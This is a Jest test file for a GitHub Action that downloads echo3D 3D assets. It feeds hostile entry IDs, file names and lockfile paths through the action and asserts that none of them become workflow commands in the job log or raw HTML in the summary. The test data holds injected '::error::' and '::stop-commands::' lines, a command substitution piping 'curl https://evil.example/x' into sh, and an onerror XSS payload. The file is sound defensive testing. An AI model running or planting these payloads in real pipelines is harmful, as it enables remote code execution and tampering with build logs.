// Workflow commands hidden in what the action is handed: entry IDs, file names and storage IDs from
// echo3D, and the paths of a lockfile a pull request slipped in. Only the real step can show that
// none of them starts a line of the job log, where the runner would obey it, nor reaches the log
// in the runner's older ##[command] form, which counts anywhere in a line. One run holds them all,
// with debug logging, which adds a line per planned file.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { startEmulator, type Emulator } from '../../emulator/server.ts'
import { LOCKFILE, log, pull, sha256 } from '../support.ts'
import { scratchFolder } from '../../harness/runner.ts'

const INJECTED = [
  '::error::injected',
  '::warning::injected',
  '::add-mask::injected',
  '::stop-commands::injected'
]

const LEGACY = '##[set-output name=changed;]$(curl -s https://evil.example/x|sh)'

let emulator: Emulator
beforeAll(async () => {
  emulator = await startEmulator({
    entries: [
      { id: `legacy ${LEGACY}`, filename: 'm ##[add-mask]glb.glb', tags: ['hostile'], derived: [] },
      {
        id: `evil\n${INJECTED[0]}-entry`,
        filename: `model.glb\n${INJECTED[1]}-extension<img src=x onerror=alert(1)>`,
        originalStorageId: `storage\n${INJECTED[2]}-storage-id`,
        tags: ['hostile'],
        derived: []
      }
    ]
  })
})
afterAll(() => emulator.close())

describe('workflow commands from outside', () => {
  it('never start a line of the log, nor reach it as ##[command], nor the summary as HTML', async () => {
    // A file the lockfile records under a name that carries a command, no longer selected.
    const workspace = await scratchFolder('hostile-lockfile')
    const folder = path.join(workspace, 'assets/echo3d')
    await mkdir(folder, { recursive: true })
    const victim = `victim\n${INJECTED[3]}.glb`
    const bytes = Buffer.from('not selected any more')
    await writeFile(path.join(folder, victim), bytes)
    const record = {
      path: `assets/echo3d/${victim}`,
      entry: `e\n${INJECTED[0]}`,
      format: 'glb',
      storageId: 's1',
      bytes: bytes.length,
      sha256: sha256(bytes)
    }
    await writeFile(path.join(workspace, LOCKFILE), JSON.stringify({ version: 1, files: [record] }))

    // echo3D has no FBX of either entry: the failures that end the step quote the names too.
    const result = await pull(
      emulator,
      { tags: 'hostile', formats: 'original, fbx', prune: 'true' },
      { workspace, debug: true }
    )
    expect(result.code).toBe(1)
    const lines = log(result).split(/\r?\n|\r/)
    const failure = lines.filter(line => line.startsWith('::error::'))
    expect(failure).toEqual([
      expect.stringMatching(/^::error::2 assets failed:%0A.*injected-entry/)
    ])
    // The words arrived, from echo3D and from the lockfile, and none of them as a command.
    expect(log(result)).toContain('injected-entry')
    expect(log(result)).toContain('injected-extension')
    expect(log(result)).toContain('injected-storage-id')
    expect(log(result)).toContain('set-output name=changed')
    expect(log(result)).toMatch(
      /points outside the destination folder: assets\/echo3d\/victim\\u\{a\}::stop-commands::/
    )
    expect(lines.filter(line => INJECTED.some(command => line.startsWith(command)))).toEqual([])
    expect(lines.filter(line => line.includes('##['))).toEqual([])
    expect(await readFile(path.join(folder, victim))).toEqual(bytes)

    expect(result.summary).toContain('&lt;img src=x onerror=alert(1)&gt;')
    expect(result.summary).not.toContain('<img')
  })
})
